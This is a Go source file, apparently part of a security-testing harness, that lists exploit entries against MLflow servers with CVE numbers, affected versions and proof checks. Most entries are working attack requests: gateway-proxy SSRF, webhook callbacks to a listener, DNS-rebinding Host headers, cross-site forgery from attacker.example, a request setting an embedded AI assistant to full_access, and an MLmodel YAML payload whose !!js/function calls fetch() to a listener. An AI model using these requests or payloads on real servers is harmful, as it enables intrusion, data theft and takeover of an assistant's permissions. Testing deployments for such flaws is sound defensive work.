package attack

// mlflowForgery makes the server send requests for the attacker, or makes a browser of somebody who is logged in send them.
var mlflowForgery = []Attack{
	{
		ID:       "mlflow/gateway-proxy-path",
		CVE:      []string{"CVE-2025-52967"},
		Doc:      "reaches any path of the model gateway's server through the proxy route",
		Works:    []string{"2.16.2", "2.9.2", "2.8.0"},
		Server:   "gateway",
		Listener: map[string]Reply{"*": {Type: "application/json", Body: `{"note": "${secret}"}`}},
		Steps:    []Step{post(ajax2+"/gateway-proxy", `{"gateway_path": ".../../../admin-${nonce}", "json_data": {"a": 1}}`)},
		Proof:    Proof{Heard: "admin-${nonce}", Answer: "${secret}"},
	},
	{
		ID:       "mlflow/gateway-proxy-get",
		CVE:      []string{"CVE-2025-52967"},
		Doc:      "does the same with GET and the path in the query",
		Works:    []string{"2.16.2", "2.9.2", "2.8.0"},
		Server:   "gateway",
		Listener: map[string]Reply{"*": {Type: "application/json", Body: `{"note": "${secret}"}`}},
		Steps:    []Step{get(ajax2 + "/gateway-proxy?gateway_path=internal-${nonce}%3Fx%3D1")},
		Proof:    Proof{Heard: "internal-${nonce}", Answer: "${secret}"},
	},
	{
		ID:    "mlflow/webhook-loopback",
		CVE:   []string{"CVE-2026-2393"},
		Doc:   "registers a webhook at an address of the server's network and lets it be called",
		Works: []string{"3.4.0"},
		Steps: []Step{
			post(api2+"/webhooks", `{"name": "lab-${nonce}", "url": "https://${listener}/hook", "events": [{"entity": "REGISTERED_MODEL", "action": "CREATED"}]}`).save("hook", "webhook.webhook_id"),
			post(api2+"/webhooks/${hook}/test", `{}`),
		},
		Proof: Proof{Heard: "connection"},
		Check: &Check{
			Steps: []Step{post(api2+"/webhooks", `{"name": "weir-check-${nonce}", "url": "https://127.0.0.1:1/hook", "events": [{"entity": "REGISTERED_MODEL", "action": "CREATED"}]}`).save("hook", "webhook.webhook_id")},
			Proof: Proof{Answer: "webhook_id"},
			Clean: []Step{{Request: "DELETE " + api2 + "/webhooks/${hook}"}},
		},
	},
	{
		ID:    "mlflow/webhook-eavesdrop",
		Doc:   "registers a webhook that is told which version of somebody else's model goes where",
		Works: []string{"3.4.0"},
		Steps: steps(theirs(), theirModel(), []Step{
			post(api2+"/webhooks", `{"name": "lab-${nonce}", "url": "https://${listener}/hook", "events": [{"entity": "MODEL_VERSION_ALIAS", "action": "CREATED"}]}`).save("hook", "webhook.webhook_id"),
			{Request: "POST " + api2 + "/registered-models/alias\n\n" + `{"name": "secret-${nonce}", "alias": "champion", "version": "1"}`, By: Victim, WaitHeard: "connection"},
		}),
		Proof: Proof{Heard: "connection"},
	},
	{
		ID:    "mlflow/rebinding",
		CVE:   []string{"CVE-2025-14279"},
		Doc:   "reaches the server from a page whose name was bound to its address: the Host is the attacker's",
		Works: []string{"2.9.2", "2.16.2", "3.4.0"},
		Steps: []Step{{Request: "GET " + api2 + "/experiments/get?experiment_id=0\nHost: rebind.attacker.example"}},
		Proof: Proof{Answer: "artifact_location"}, ReadOnly: true,
	},
	{
		ID:    "mlflow/rebinding-write",
		CVE:   []string{"CVE-2025-14279"},
		Doc:   "does the same and creates an experiment",
		Works: []string{"2.9.2", "2.16.2", "3.4.0"},
		Steps: []Step{{Request: "POST " + api2 + "/experiments/create\nHost: rebind.attacker.example:5000\n\n" + `{"name": "lab-${nonce}"}`}},
		Proof: Proof{Probe: probe("GET " + api2 + "/experiments/get-by-name?experiment_name=lab-${nonce}"), Shows: "experiment_id"},
		Check: &Check{
			Steps: []Step{{Request: "POST " + api2 + "/experiments/create\nHost: rebind.attacker.example:5000\n\n" + `{"name": "Default"}`}},
			Proof: Proof{Like: existsAlready},
		},
	},
	{
		ID:    "mlflow/rebinding-absolute-form",
		CVE:   []string{"CVE-2025-14279"},
		Doc:   "names the attacker's host in an absolute request target, and the server's in Host",
		Works: []string{"2.9.2", "2.16.2"},
		Steps: []Step{{Request: "GET http://rebind.attacker.example" + api2 + "/experiments/get?experiment_id=0"}},
		Proof: Proof{Answer: "artifact_location"}, ReadOnly: true,
	},
	{
		ID:    "mlflow/cross-site-text-plain",
		CVE:   []string{"CVE-2023-43472"},
		Doc:   "lets a page of another site post JSON as text/plain, which browsers send without asking",
		Works: []string{"2.8.0", "1.30.0"},
		Steps: []Step{{Request: "POST " + ajax2 + "/experiments/create\nOrigin: https://attacker.example\nSec-Fetch-Site: cross-site\nContent-Type: text/plain\n\n" + `{"name": "lab-${nonce}"}`}},
		Proof: Proof{Probe: probe("GET " + api2 + "/experiments/get-by-name?experiment_name=lab-${nonce}"), Shows: "experiment_id"},
		Check: &Check{
			Steps: []Step{{Request: "POST " + ajax2 + "/experiments/create\nOrigin: https://attacker.example\nSec-Fetch-Site: cross-site\nContent-Type: text/plain\n\n" + `{"name": "Default"}`}},
			Proof: Proof{Like: existsAlready},
		},
	},
	{
		ID:    "mlflow/cross-site-json",
		Doc:   "accepts a JSON request that says it comes from another site's page",
		Works: []string{"2.9.2", "2.16.2", "3.4.0"},
		Steps: []Step{{Request: "POST " + ajax2 + "/experiments/create\nOrigin: https://attacker.example\nContent-Type: application/json\n\n" + `{"name": "lab-${nonce}"}`}},
		Proof: Proof{Probe: probe("GET " + api2 + "/experiments/get-by-name?experiment_name=lab-${nonce}"), Shows: "experiment_id"},
		Check: &Check{
			Steps: []Step{{Request: "POST " + ajax2 + "/experiments/create\nOrigin: https://attacker.example\nContent-Type: application/json\n\n" + `{"name": "Default"}`}},
			Proof: Proof{Like: existsAlready},
		},
	},
	{
		ID:    "mlflow/cross-site-upload",
		Doc:   "lets a page of another site upload into the victim's run, with a type that browsers send without asking",
		Works: []string{"2.9.2", "2.16.2", "3.4.0"},
		Steps: []Step{
			post(api2+"/experiments/create", `{"name": "lab-${nonce}"}`).save("exp", "experiment_id").by(Victim),
			post(api2+"/runs/create", `{"experiment_id": "${exp}", "start_time": 1700000000000}`).save("run", "run.info.run_id").by(Victim),
			{Request: "POST " + ajax2 + "/upload-artifact?run_uuid=${run}&path=note.txt\nOrigin: https://attacker.example\nSec-Fetch-Site: cross-site\nContent-Type: text/plain\n\n${secret}"},
		},
		Proof: Proof{Probe: probe("GET /get-artifact?run_id=${run}&path=note.txt"), Shows: "${secret}"},
	},
	{
		ID:    "mlflow/cross-site-assistant",
		CVE:   []string{"CVE-2026-2611"},
		Doc:   "gives the assistant of the server, from a page of another site, the right to do anything without asking",
		Works: []string{"3.9.0"},
		Steps: []Step{{Request: "PUT " + ajax3 + "/assistant/config\nOrigin: https://attacker.example\nContent-Type: application/json\n\n" + `{"providers": {"claude_code": {"model": "m-${nonce}", "permissions": {"full_access": true}}}}`}},
		Proof: Proof{Probe: probe("GET " + ajax3 + "/assistant/config"), Shows: "m-${nonce}"},
	},
	{
		ID:    "mlflow/assistant-behind-proxy",
		Doc:   "reaches the assistant, which trusts whoever connects from the same machine, as everybody behind a proxy does",
		Works: []string{"3.9.0", "new"},
		Steps: []Step{{Request: "PUT " + ajax3 + "/assistant/config\nContent-Type: application/json\n\n" + `{"providers": {"claude_code": {"model": "m-${nonce}", "permissions": {"full_access": true}}}}`}},
		Proof: Proof{Probe: probe("GET " + ajax3 + "/assistant/config"), Shows: "m-${nonce}"},
		Check: &Check{ // the server looks at the form before it changes anything
			Steps: []Step{{Request: "PUT " + ajax3 + "/assistant/config\nContent-Type: application/json\n\n" + `{"providers": 1}`}},
			Proof: Proof{Like: `"dict_type"|valid dict`},
		},
	},
	{
		ID:    "mlflow/model-file-script",
		CVE:   []string{"CVE-2026-33865"},
		Doc:   "uploads an MLmodel whose YAML makes the interface run a script",
		Works: []string{"2.16.2", "3.9.0"},
		Steps: []Step{
			experiment(), newRun(),
			post(api2+"/runs/set-tag", `{"run_id": "${run}", "key": "mlflow.log-model.history", "value": "[{\"run_id\": \"${run}\", \"artifact_path\": \"model\", \"utc_time_created\": \"2026-01-01 00:00:00\", \"flavors\": {\"python_function\": {}}}]"}`),
			{Request: "POST " + ajax2 + "/upload-artifact?run_uuid=${run}&path=model/MLmodel\nContent-Type: text/plain\n\n" + modelFileScript},
			{Browse: "/#/experiments/${exp}/runs/${run}/artifacts/model", WaitHeard: "script-${nonce}"},
		},
		Proof: Proof{Heard: "script-${nonce}"},
	},
}

// modelFileScript is YAML as js-yaml's full schema reads it: a function of JavaScript that runs when the interface turns the object into text.
const modelFileScript = `artifact_path: model
flavors:
  python_function:
    loader_module: mlflow.sklearn
signature:
  inputs:
    toString: !!js/function 'function() { fetch("http://${listener}/script-${nonce}"); return "[]"; }'
  outputs:
    toString: !!js/function 'function() { fetch("http://${listener}/script-${nonce}"); return "[]"; }'
`
